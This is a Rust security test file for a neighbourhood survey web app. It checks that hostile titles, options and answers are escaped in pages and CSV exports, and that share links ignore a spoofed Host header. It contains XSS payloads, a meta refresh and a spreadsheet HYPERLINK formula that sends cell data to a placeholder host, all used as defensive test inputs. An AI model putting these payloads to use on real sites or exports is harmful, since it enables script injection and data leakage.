//! Hostile text written by staff (titles, options) or residents (answers) is shown
//! as text in every context a page puts it: `<title>`, `<meta>` content, attributes,
//! form values and the JSON the charts carry.
use super::answer;
use crate::helpers::{location, spawn, TestApp};
use crate::surveys::{create, draft, neighbour};
use app::core::access::Role;
use app::surveys::model::{Choice, Question, QuestionKind};

const TITLE: &str =
    "</title><meta http-equiv=refresh content=\"0;url=https://x.example/\"><script>alert(1)</script>";
const QUESTION: &str = "</script><img src=x onerror=alert(2)>";
const OPTION: &str = "\"><svg onload=alert(3)>";
const ANSWER: &str = "</textarea><script>alert(4)</script>";

/// What must never appear in a page: markup that came from the hostile strings.
fn assert_inert(page: &str, what: &str) {
    for raw in
        ["<meta http-equiv", "<script>alert", "<img src=x", "<svg onload", "</textarea><script"]
    {
        assert!(!page.contains(raw), "{what}: {raw} in the page");
    }
    assert!(!page.contains("url=https://x.example/\">"), "{what}: a live refresh");
}

async fn hostile_survey(app: &TestApp) -> String {
    let mut qs = crate::surveys::questions();
    qs[0].title = QUESTION.into();
    qs.push(Question {
        id: "pick".into(),
        title: OPTION.into(),
        help: OPTION.into(),
        required: false,
        kind: QuestionKind::Single {
            options: vec![
                Choice { id: "a".into(), label: OPTION.into() },
                Choice { id: "b".into(), label: "b".into() },
            ],
        },
        show_if: None,
        feeds: None,
    });
    let now = chrono::Utc::now().timestamp();
    let mut new = draft(&qs, false, false, now - 60, now + 86_400);
    new.draft.title = TITLE;
    new.draft.intro = ANSWER;
    let id = create(&app.db, new).await.unwrap();
    assert!(tongxin::surveys::service::lifecycle::publish(&app.db, &id).await.unwrap());
    id
}

#[tokio::test]
async fn publish_a_survey_whose_title_breaks_out_of_the_page_title() {
    let app = spawn(true).await;
    let survey = hostile_survey(&app).await;
    let page = app.get(&format!("/surveys/{survey}")).await.text().await.unwrap();
    assert_inert(&page, "the answering page");
    assert!(page.contains("&lt;/title&gt;"), "the title is shown, escaped");
    let list = app.get("/surveys").await.text().await.unwrap();
    assert_inert(&list, "the survey list");
    // Hostile answers come back into the form (kept across sign-in) as values.
    let guest = app.browser();
    let res = guest
        .post_form(
            &format!("/surveys/{survey}/answer"),
            &[("safe", "4"), ("note", ANSWER), ("pick", "a")],
        )
        .await;
    let confirm = location(&res);
    assert!(confirm.starts_with(&format!("/surveys/{survey}/confirm")), "{confirm}");
    let page = guest.get(&confirm).await.text().await.unwrap();
    assert_inert(&page, "the confirmation screen");
    assert!(page.contains("&lt;/title&gt;"), "the title is shown there too, escaped");
    let page = guest.get(&format!("/surveys/{survey}?resume=1")).await.text().await.unwrap();
    assert_inert(&page, "the answering page with kept answers");
    assert!(page.contains("&lt;/textarea&gt;"), "the kept answer is shown, escaped");
}

#[tokio::test]
async fn read_hostile_answers_in_the_staff_results_and_public_results() {
    let app = spawn(true).await;
    let survey = hostile_survey(&app).await;
    for i in 0..5 {
        let b = neighbour(&app, &format!("1380013860{i}")).await;
        let res = b
            .post_form(
                &format!("/surveys/{survey}/answer"),
                &[("safe", "4"), ("note", ANSWER), ("pick", "a")],
            )
            .await;
        assert!(location(&res).contains("notice=submitted"), "{}", location(&res));
    }
    let _ = answer;
    app.add_staff("juwei", Role::Committee, "449902002001").await;
    let staff = app.staff("juwei").await;
    for path in [
        format!("/staff/surveys/{survey}"),
        format!("/staff/surveys/{survey}/results"),
        "/staff/surveys".to_string(),
    ] {
        let page = staff.get(&path).await.text().await.unwrap();
        assert_inert(&page, &path);
    }
    assert!(app.staff_close(&staff, &survey).await);
    let page = app.get(&format!("/surveys/{survey}/results")).await.text().await.unwrap();
    assert_inert(&page, "the public results");
    assert!(page.contains("data-chart"), "with a chart whose option carries the labels");
}

#[tokio::test]
async fn answer_with_a_formula_that_runs_when_staff_open_the_export_in_excel() {
    let app = spawn(true).await;
    let survey = crate::surveys::published(&app.db, false, false).await;
    let formula = "=HYPERLINK(\"https://x.example/?\"&A1,\"点这里\")";
    for i in 0..5 {
        let b = neighbour(&app, &format!("1380013870{i}")).await;
        let note = if i == 0 { formula } else { "-1+1" };
        let res = b
            .post_form(&format!("/surveys/{survey}/answer"), &[("safe", "4"), ("note", note)])
            .await;
        assert!(location(&res).contains("notice=submitted"), "{}", location(&res));
    }
    app.add_staff("juwei", Role::Committee, "449902002001").await;
    let staff = app.staff("juwei").await;
    let csv = staff.get(&format!("/staff/surveys/{survey}/export.csv")).await.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect();
    assert!(cells.contains(&format!("'{formula}")), "the formula is written as text");
    assert!(cells.contains(&"'-1+1".to_string()));
    assert!(
        !cells.iter().any(|c| c.starts_with(['=', '+', '-', '@']) && c.parse::<f64>().is_err()),
        "no cell starts a formula"
    );
}

#[tokio::test]
async fn import_an_area_name_that_runs_as_a_formula_in_the_open_data_csv() {
    let app = spawn(false).await;
    let areas = "code,parent_code,level,name_zh,name_en,population\n\
                 C,,city,=1+1,@SUM(A1),1000\n";
    tongxin::areas::service::import_csv(&app.db, areas.as_bytes()).await.unwrap();
    let csv = app.get("/api/v1/areas?level=city&format=csv").await.text().await.unwrap();
    assert!(csv.contains(",'=1+1,'@SUM(A1),"), "{csv}");
    assert!(csv.contains(",1000"), "numbers stay numbers: {csv}");
}

#[tokio::test]
async fn point_a_posters_share_link_and_qr_code_at_another_host_through_the_host_header() {
    let app = spawn(true).await;
    let survey = crate::surveys::published(&app.db, false, false).await;
    app.add_staff("jw", Role::Committee, "449902002001").await;
    let jw = app.staff("jw").await;
    let code: String = sqlx::query_scalar("SELECT code FROM survey_links WHERE survey_id = ?")
        .bind(&survey)
        .fetch_one(app.db.reader())
        .await
        .unwrap();
    let with_host =
        |path: String, host: &'static str| jw.client.get(jw.url(&path)).header("host", host).send();
    // The committee's page lists the link as the site's own address, whatever Host says.
    let page = with_host(format!("/staff/surveys/{survey}"), "x.example").await.unwrap();
    let page = page.text().await.unwrap();
    assert!(!page.contains("x.example"), "the Host header made it into a share link");
    assert!(page.contains(&format!("{}/s/{code}", app.base)), "the site's own link is listed");
    // The QR code (cached a day by browsers and proxies) encodes the same link.
    let honest = app.get(&format!("/s/{code}/qr.svg")).await.bytes().await.unwrap();
    let hostile = with_host(format!("/s/{code}/qr.svg"), "x.example").await.unwrap();
    assert_eq!(hostile.bytes().await.unwrap(), honest, "the QR code follows the Host header");
}
